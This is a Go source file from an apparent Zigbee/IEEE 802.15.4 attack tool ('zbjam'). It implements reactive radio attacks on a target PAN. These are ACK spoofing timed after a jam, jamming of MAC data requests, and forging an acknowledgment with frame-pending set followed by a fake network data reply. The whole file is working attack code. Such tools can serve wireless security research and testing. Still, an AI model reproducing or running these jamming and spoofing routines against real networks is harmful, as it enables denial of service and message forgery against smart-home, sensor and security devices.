package attack

import (
	"time"

	proto "github.com/ystepanoff/zbjam/protocol"
)

// Attacks on plain MAC traffic of the configured PAN.

type ackSpoof struct {
	p   proto.Params
	ack [3]byte
}

func newAckSpoof(p proto.Params) *ackSpoof {
	a := &ackSpoof{p: p}
	proto.AppendAck(a.ack[:0], 0x02, 0)
	return a
}

func (a *ackSpoof) ID() ID { return AckSpoof }

func (a *ackSpoof) Classify(f *Frame) Outcome {
	l := f.Length()
	if !proto.ValidPHYLen(l) {
		return ignore()
	}
	fcl := f.Next()
	if !proto.AckRequested(fcl) || proto.Secured(fcl) || !proto.PANIDCompressed(fcl) {
		return ignore()
	}
	if proto.FrameVersion(f.Next()) != proto.FrameVersion2003 {
		return ignore()
	}
	seq := f.Next()
	if !f.ExpectUint16(a.p.PANID) {
		return ignore()
	}

	n := JamLen(l, 16)
	a.ack[proto.AckSeqOffset] = seq
	// the ack follows once the jam itself is off the air
	wait := time.Duration(n)*proto.ByteTime + 400*time.Microsecond
	return jam(n).spoof(wait, proto.AckPHYLen, a.ack[:])
}

// dataRequestFields checks a 12-byte MAC data request from the frame
// control onwards and returns its sequence number. Secured requests
// are the 2006 form with an auxiliary security header.
func dataRequestFields(f *Frame, pan uint16, secured bool) (byte, bool) {
	fcl := f.Next()
	if proto.FrameType(fcl) != proto.FrameTypeCommand || proto.Secured(fcl) != secured ||
		!proto.AckRequested(fcl) || !proto.PANIDCompressed(fcl) {
		return 0, false
	}
	version := byte(proto.FrameVersion2003)
	if secured {
		version = proto.FrameVersion2006
	}
	fch := f.Next()
	if proto.FrameVersion(fch) != version || !proto.ShortAddressed(fch) {
		return 0, false
	}
	seq := f.Next()
	if !f.ExpectUint16(pan) {
		return 0, false
	}
	return seq, true
}

const dataRequestPHYLen = 12

type dataRequestJam struct {
	p proto.Params
}

func (a *dataRequestJam) ID() ID { return DataRequestJam }

func (a *dataRequestJam) Classify(f *Frame) Outcome {
	if f.Length() != dataRequestPHYLen {
		return ignore()
	}
	if _, ok := dataRequestFields(f, a.p.PANID, false); !ok {
		return ignore()
	}
	return jam(1)
}

// spoofPair is an acknowledgment with frame pending set followed by a
// forged reply to the acknowledged request.
type spoofPair struct {
	ack      [3]byte
	reply    [proto.MaxPSDU]byte
	replyLen int
}

func (s *spoofPair) outcome(seq byte, ackWait, replyWait time.Duration, replyPHYLen byte) Outcome {
	s.ack[proto.AckSeqOffset] = seq
	return jam(1).
		spoof(ackWait, proto.AckPHYLen, s.ack[:]).
		spoof(replyWait, replyPHYLen, s.reply[:s.replyLen])
}

func (s *spoofPair) init(reply []byte) {
	proto.AppendAck(s.ack[:0], 0x12, 0)
	s.replyLen = copy(s.reply[:], reply)
}

type dataRequestSpoof struct {
	p proto.Params
	spoofPair
}

func newDataRequestSpoof(p proto.Params) *dataRequestSpoof {
	a := &dataRequestSpoof{p: p}
	a.init(proto.AppendNWKData(nil, p))
	return a
}

func (a *dataRequestSpoof) ID() ID { return DataRequestSpoof }

func (a *dataRequestSpoof) Classify(f *Frame) Outcome {
	if f.Length() != dataRequestPHYLen {
		return ignore()
	}
	seq, ok := dataRequestFields(f, a.p.PANID, false)
	if !ok {
		return ignore()
	}
	return a.outcome(seq, 432*time.Microsecond, 560*time.Microsecond, proto.NWKDataPHYLen)
}
